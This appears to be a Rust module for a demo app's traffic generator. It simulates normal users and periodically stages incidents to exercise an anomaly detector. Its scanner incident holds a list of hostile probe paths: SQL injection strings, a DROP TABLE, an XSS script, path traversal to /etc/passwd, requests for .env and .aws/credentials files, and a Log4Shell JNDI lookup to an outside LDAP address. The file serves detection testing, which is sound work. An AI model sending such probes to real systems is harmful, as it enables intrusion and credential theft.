//! `demo-app traffic`: drives a running demo app over HTTP like its users would, and every few
//! minutes stages one incident of every kind the detector reports, so a fresh stack shows trained
//! models and incidents within five minutes with no manual step.
//!
//! Normal load: Poisson arrivals at `RPS` (default 15) over the app's endpoints from 40 clients.
//! Incidents: a round at `FIRST_INCIDENT_SECS` (default 120: the detector has trained on 1,000
//! lines by then), then every `INCIDENT_EVERY_SECS` (default 300). A round, from its start:
//!
//! | at   | what                                             | the detector should say |
//! |------|--------------------------------------------------|-------------------------|
//! | 0 s  | `/api/products` at 4× its rate for 90 s           | `volume`                |
//! | 5 s  | a scanner probing for secrets and injections     | `suspicious`            |
//! | 15 s | a burst of 404s, 422s and 400s                   | `status_code`           |
//! | 25 s | one client paging 1,000 users at a time          | `behavioral`            |
//! | 30 s | `/api/orders` queries taking a second            | `response_time`, `pattern` (slow parameter) |
//! | 45 s | orders failing with a new error message          | `pattern` (new), `status_code` |
//! | 50 s | the rare payment-gateway warning surging         | `pattern` (rate, level) |
//!
//! Everything is bounded: requests have a 10 s timeout, at most [`MAX_IN_FLIGHT`] are in flight
//! (beyond that an arrival is skipped and counted), and `DURATION_SECS` ends the run (0: until
//! SIGTERM or Ctrl-C).

use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use tokio::sync::Semaphore;
use tokio::time::Instant;

use crate::app_log::{Fault, FAULT_HEADER};

/// Requests in flight at most; arrivals beyond it are skipped (and counted).
pub const MAX_IN_FLIGHT: usize = 256;
/// Timeout of one request.
const REQUEST_TIMEOUT: Duration = Duration::from_secs(10);
/// How long the generator waits for the app's `/healthz` before giving up.
const STARTUP_WAIT: Duration = Duration::from_secs(60);

const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "shop-mobile/4.2.1 (Android 14)",
];
const SCANNER: &str = "203.0.113.66";
const SCANNER_AGENTS: [&str; 2] = ["sqlmap/1.8.4#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x"];
/// Paths a scanner tries (percent-encoded where a URL parser would otherwise resolve them).
const PROBES: [&str; 14] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/wp-admin/install.php",
    "/phpmyadmin/index.php",
    "/api/users/..%2f..%2fetc%2fpasswd",
    "/api/users?id=1'%20OR%20'1'='1",
    "/api/users?id=1%27%20OR%20%271%27%3D%271",
    "/api/products?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/api/orders?id=1;DROP%20TABLE%20orders",
    "/server-status",
    "/actuator/env",
    "/.aws/credentials",
    "/api/products?q=${jndi:ldap://203.0.113.66/a}",
];
/// The client that pages through every user (`behavioral`).
const BULK_CLIENT: &str = "198.51.100.23";

/// Settings of the generator, read from the environment by [`TrafficConfig::from_vars`].
#[derive(Debug, Clone, PartialEq)]
pub struct TrafficConfig {
    /// Base URL of the demo app (`TARGET`, or the first argument; default `http://127.0.0.1:5000`).
    pub target: String,
    /// Mean normal requests per second (`RPS`, 0.5..=500).
    pub rps: f64,
    /// Seconds before the first incident round (`FIRST_INCIDENT_SECS`).
    pub first_incident_secs: u64,
    /// Seconds between incident rounds (`INCIDENT_EVERY_SECS`, at least 90: a round takes 90 s).
    pub incident_every_secs: u64,
    /// Seconds to run (`DURATION_SECS`; 0 = until stopped).
    pub duration_secs: u64,
    /// Seed of the arrivals and choices (`SEED`; 0 = random).
    pub seed: u64,
}

impl Default for TrafficConfig {
    fn default() -> Self {
        TrafficConfig {
            target: "http://127.0.0.1:5000".into(),
            rps: 15.0,
            first_incident_secs: 120,
            incident_every_secs: 300,
            duration_secs: 0,
            seed: 0,
        }
    }
}

impl TrafficConfig {
    /// Reads the variables above; a value that does not parse is an error naming its variable.
    pub fn from_vars(var: impl Fn(&str) -> Option<String>) -> Result<Self, String> {
        let mut cfg = TrafficConfig::default();
        let num = |k: &str| -> Result<Option<f64>, String> {
            match var(k).filter(|v| !v.trim().is_empty()) {
                None => Ok(None),
                Some(v) => v.trim().parse().map(Some).map_err(|_| format!("{k} must be a number, got {v:?}")),
            }
        };
        if let Some(t) = var("TARGET").filter(|t| !t.trim().is_empty()) {
            cfg.target = t.trim().trim_end_matches('/').to_string();
        }
        if let Some(r) = num("RPS")? {
            if !(0.5..=500.0).contains(&r) {
                return Err(format!("RPS must be in [0.5, 500], got {r}"));
            }
            cfg.rps = r;
        }
        let secs = |k: &str| -> Result<Option<u64>, String> {
            match num(k)? {
                Some(v) if v < 0.0 || v.fract() != 0.0 => Err(format!("{k} must be whole seconds, got {v}")),
                other => Ok(other.map(|v| v as u64)),
            }
        };
        if let Some(s) = secs("FIRST_INCIDENT_SECS")? {
            cfg.first_incident_secs = s;
        }
        if let Some(s) = secs("INCIDENT_EVERY_SECS")? {
            if s < 90 {
                return Err(format!("INCIDENT_EVERY_SECS must be at least 90 (a round takes 90 s), got {s}"));
            }
            cfg.incident_every_secs = s;
        }
        if let Some(s) = secs("DURATION_SECS")? {
            cfg.duration_secs = s;
        }
        if let Some(s) = secs("SEED")? {
            cfg.seed = s;
        }
        Ok(cfg)
    }
}

/// What a run sent.
#[derive(Debug, Default)]
pub struct Counts {
    pub sent: AtomicU64,
    pub failed: AtomicU64,
    pub skipped: AtomicU64,
}

/// One request to send.
#[derive(Debug, Clone, Default)]
struct Req {
    post: bool,
    path: String,
    client: String,
    agent: &'static str,
    body: Option<String>,
    fault: Option<Fault>,
}

#[derive(Clone)]
struct Driver {
    http: reqwest::Client,
    target: Arc<str>,
    slots: Arc<Semaphore>,
    counts: Arc<Counts>,
}

impl Driver {
    /// Sends `req` in the background, or counts it skipped when [`MAX_IN_FLIGHT`] are in flight.
    fn send(&self, req: Req) {
        let Ok(permit) = self.slots.clone().try_acquire_owned() else {
            self.counts.skipped.fetch_add(1, Ordering::Relaxed);
            return;
        };
        let d = self.clone();
        tokio::spawn(async move {
            let url = format!("{}{}", d.target, req.path);
            let mut b = if req.post { d.http.post(url) } else { d.http.get(url) };
            b = b.header("x-forwarded-for", req.client).header(reqwest::header::USER_AGENT, req.agent);
            if let Some(f) = req.fault {
                b = b.header(FAULT_HEADER, f.as_str());
            }
            if let Some(body) = req.body {
                b = b.header(reqwest::header::CONTENT_TYPE, "application/json").body(body);
            }
            let ok = match b.send().await {
                Ok(r) => r.bytes().await.is_ok(),
                Err(_) => false,
            };
            d.counts.sent.fetch_add(1, Ordering::Relaxed);
            if !ok {
                d.counts.failed.fetch_add(1, Ordering::Relaxed);
            }
            drop(permit);
        });
    }
}

fn client(rng: &mut StdRng) -> String {
    let n = rng.gen_range(0..40u32);
    format!("10.0.{}.{}", n / 10 + 1, n % 10 + 11)
}

fn order_body(rng: &mut StdRng) -> String {
    format!(
        r#"{{"user_id":{},"items":[{{"product_id":{},"quantity":{}}}]}}"#,
        rng.gen_range(1..=500),
        rng.gen_range(1..=6),
        rng.gen_range(1..=3)
    )
}

/// One request of the normal mix.
fn normal(rng: &mut StdRng) -> Req {
    let base = Req { client: client(rng), agent: AGENTS[rng.gen_range(0..AGENTS.len())], ..Req::default() };
    match rng.gen_range(0..10) {
        0..=2 => Req { path: format!("/api/users?page={}", rng.gen_range(1..=5)), ..base },
        3 | 4 => Req { path: format!("/api/users/{}", rng.gen_range(1..=500)), ..base },
        5 | 6 => Req { path: "/api/products".into(), ..base },
        7 => Req { path: "/api/products?q=mo".into(), ..base },
        8 => Req { path: "/api/orders".into(), ..base },
        _ => Req { post: true, path: "/api/orders".into(), body: Some(order_body(rng)), ..base },
    }
}

/// Sends `n` requests made by `make` evenly over `secs` seconds.
async fn spread(d: &Driver, rng: &mut StdRng, n: u32, secs: f64, mut make: impl FnMut(&mut StdRng, u32) -> Req) {
    let gap = Duration::from_secs_f64(secs / f64::from(n.max(1)));
    for i in 0..n {
        d.send(make(rng, i));
        tokio::time::sleep(gap).await;
    }
}

/// [`spread`] as a task of its own (with its own seeded generator), so the round goes on.
fn spread_in_background(
    d: &Driver,
    seed: u64,
    n: u32,
    secs: f64,
    make: impl FnMut(&mut StdRng, u32) -> Req + Send + 'static,
) -> tokio::task::JoinHandle<()> {
    let d = d.clone();
    tokio::spawn(async move { spread(&d, &mut StdRng::seed_from_u64(seed), n, secs, make).await })
}

/// Waits until `/healthz` answers, at most [`STARTUP_WAIT`].
async fn wait_for_app(http: &reqwest::Client, target: &str) -> Result<(), String> {
    let deadline = Instant::now() + STARTUP_WAIT;
    loop {
        match http.get(format!("{target}/healthz")).send().await {
            Ok(r) if r.status().is_success() => return Ok(()),
            Ok(r) if Instant::now() >= deadline => return Err(format!("{target}/healthz answered {}", r.status())),
            Err(e) if Instant::now() >= deadline => return Err(format!("{target}/healthz: {e}")),
            _ => tokio::time::sleep(Duration::from_millis(500)).await,
        }
    }
}

/// One incident round (see the module docs); `say` prints what it does.
async fn round(d: Driver, seed: u64, nth: u64, rps: f64) {
    let mut rng = StdRng::seed_from_u64(seed ^ nth.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    let start = Instant::now();
    let at = |secs: u64| tokio::time::sleep_until(start + Duration::from_secs(secs));
    let say = |what: &str| println!("incident round {nth}: {what}");

    let extra = (rps * 0.9).max(1.0);
    let surge = spread_in_background(&d, rng.gen(), (extra * 90.0) as u32, 90.0, |r, _| Req {
        path: "/api/products".into(),
        client: client(r),
        agent: AGENTS[r.gen_range(0..AGENTS.len())],
        ..Req::default()
    });
    say("a surge on /api/products (4x its rate for 90 s)");

    at(5).await;
    say("a scanner probing for secrets and injections");
    for agent in SCANNER_AGENTS {
        spread(&d, &mut rng, PROBES.len() as u32, 3.0, |_, i| Req {
            path: PROBES[i as usize].into(),
            client: SCANNER.into(),
            agent,
            ..Req::default()
        })
        .await;
    }

    at(15).await;
    say("a burst of client errors (unknown users, rejected and malformed orders)");
    spread(&d, &mut rng, 50, 8.0, |r, i| match i % 5 {
        0..=2 => Req {
            path: format!("/api/users/{}", r.gen_range(100_000..200_000)),
            client: client(r),
            agent: AGENTS[0],
            ..Req::default()
        },
        3 => Req {
            post: true,
            path: "/api/orders".into(),
            client: client(r),
            agent: AGENTS[3],
            body: Some(r#"{"user_id":0,"items":[]}"#.into()),
            ..Req::default()
        },
        _ => Req {
            post: true,
            path: "/api/orders".into(),
            client: client(r),
            agent: AGENTS[3],
            body: Some("{not json".into()),
            ..Req::default()
        },
    })
    .await;

    at(25).await;
    say("one client paging through every user, 1,000 at a time");
    let bulk = spread_in_background(&d, rng.gen(), 40, 20.0, |_, _| Req {
        path: "/api/users?per_page=1000".into(),
        client: BULK_CLIENT.into(),
        agent: "python-requests/2.32.3",
        ..Req::default()
    });

    at(30).await;
    say("order queries taking a second (db-slow), and the slow, failing /api/suspicious");
    let slow = spread_in_background(&d, rng.gen(), 60, 30.0, |r, i| {
        if i % 3 == 2 {
            Req {
                path: format!("/api/suspicious?report={}", r.gen_range(0..100)),
                client: client(r),
                agent: AGENTS[1],
                ..Req::default()
            }
        } else {
            Req {
                path: "/api/orders".into(),
                client: client(r),
                agent: AGENTS[0],
                fault: Some(Fault::DbSlow),
                ..Req::default()
            }
        }
    });

    at(45).await;
    say("orders failing with a new error message (ledger-down)");
    let ledger = spread_in_background(&d, rng.gen(), 30, 20.0, |r, _| Req {
        post: true,
        path: "/api/orders".into(),
        client: client(r),
        agent: AGENTS[2],
        body: Some(order_body(r)),
        fault: Some(Fault::LedgerDown),
    });

    at(50).await;
    say("the payment gateway's retry warning surging (gateway-slow)");
    spread(&d, &mut rng, 40, 20.0, |r, _| Req {
        post: true,
        path: "/api/orders".into(),
        client: client(r),
        agent: AGENTS[3],
        body: Some(order_body(r)),
        fault: Some(Fault::GatewaySlow),
    })
    .await;
    for task in [surge, bulk, slow, ledger] {
        let _ = task.await;
    }
    say("over");
}

/// Runs the generator until `duration_secs` pass or `shutdown` completes; what it sent.
pub async fn run(cfg: TrafficConfig, shutdown: impl std::future::Future<Output = ()>) -> Result<Arc<Counts>, String> {
    let http = reqwest::Client::builder().timeout(REQUEST_TIMEOUT).build().map_err(|e| e.to_string())?;
    wait_for_app(&http, &cfg.target).await?;
    let seed = if cfg.seed == 0 { rand::random() } else { cfg.seed };
    let d = Driver {
        http,
        target: cfg.target.as_str().into(),
        slots: Arc::new(Semaphore::new(MAX_IN_FLIGHT)),
        counts: Arc::default(),
    };
    println!(
        "traffic: {} req/s to {}; incidents at {} s, then every {} s",
        cfg.rps, cfg.target, cfg.first_incident_secs, cfg.incident_every_secs
    );
    let start = Instant::now();
    let end = (cfg.duration_secs > 0).then(|| start + Duration::from_secs(cfg.duration_secs));
    let mut next_round = start + Duration::from_secs(cfg.first_incident_secs);
    let mut rounds = 0u64;
    let mut rng = StdRng::seed_from_u64(seed);
    let mut next = start;
    let mut last_report = start;
    tokio::pin!(shutdown);
    loop {
        let gap = -rng.gen::<f64>().max(1e-12).ln() / cfg.rps;
        next += Duration::from_secs_f64(gap);
        tokio::select! {
            _ = tokio::time::sleep_until(next) => {}
            _ = &mut shutdown => break,
        }
        let now = Instant::now();
        if end.is_some_and(|e| now >= e) {
            break;
        }
        if now >= next_round {
            rounds += 1;
            tokio::spawn(round(d.clone(), seed, rounds, cfg.rps));
            next_round += Duration::from_secs(cfg.incident_every_secs);
        }
        d.send(normal(&mut rng));
        if now.duration_since(last_report) >= Duration::from_secs(60) {
            last_report = now;
            let c = &d.counts;
            println!(
                "traffic: {} requests sent ({} failed, {} skipped)",
                c.sent.load(Ordering::Relaxed),
                c.failed.load(Ordering::Relaxed),
                c.skipped.load(Ordering::Relaxed)
            );
        }
    }
    Ok(d.counts)
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::tests::vars;

    #[test]
    fn settings_come_from_the_environment_and_bad_ones_name_their_variable() {
        assert_eq!(TrafficConfig::from_vars(vars(&[])).unwrap(), TrafficConfig::default());
        let cfg = TrafficConfig::from_vars(vars(&[
            ("TARGET", "http://demo-app:5000/"),
            ("RPS", "20"),
            ("FIRST_INCIDENT_SECS", "90"),
            ("INCIDENT_EVERY_SECS", "240"),
            ("DURATION_SECS", "600"),
            ("SEED", "7"),
        ]))
        .unwrap();
        assert_eq!(cfg.target, "http://demo-app:5000");
        assert_eq!(
            (cfg.rps, cfg.first_incident_secs, cfg.incident_every_secs, cfg.duration_secs, cfg.seed),
            (20.0, 90, 240, 600, 7)
        );
        for (k, v) in [
            ("RPS", "fast"),
            ("RPS", "0"),
            ("FIRST_INCIDENT_SECS", "-1"),
            ("INCIDENT_EVERY_SECS", "30"),
            ("DURATION_SECS", "1.5"),
        ] {
            let err = TrafficConfig::from_vars(vars(&[(k, v)])).unwrap_err();
            assert!(err.contains(k), "{err}");
        }
    }

    #[test]
    fn the_normal_mix_reaches_every_endpoint_with_valid_orders() {
        let mut rng = StdRng::seed_from_u64(1);
        let reqs: Vec<Req> = (0..2000).map(|_| normal(&mut rng)).collect();
        for path in ["/api/users?page=", "/api/users/", "/api/products", "/api/orders"] {
            assert!(reqs.iter().any(|r| r.path.starts_with(path)), "{path}");
        }
        let posts: Vec<&Req> = reqs.iter().filter(|r| r.post).collect();
        assert!((150..250).contains(&posts.len()), "{} orders in 2,000", posts.len());
        assert!(posts.iter().all(|r| serde_json::from_str::<serde_json::Value>(r.body.as_deref().unwrap()).is_ok()));
        assert!(reqs.iter().all(|r| r.fault.is_none() && r.client.starts_with("10.0.")));
    }
}
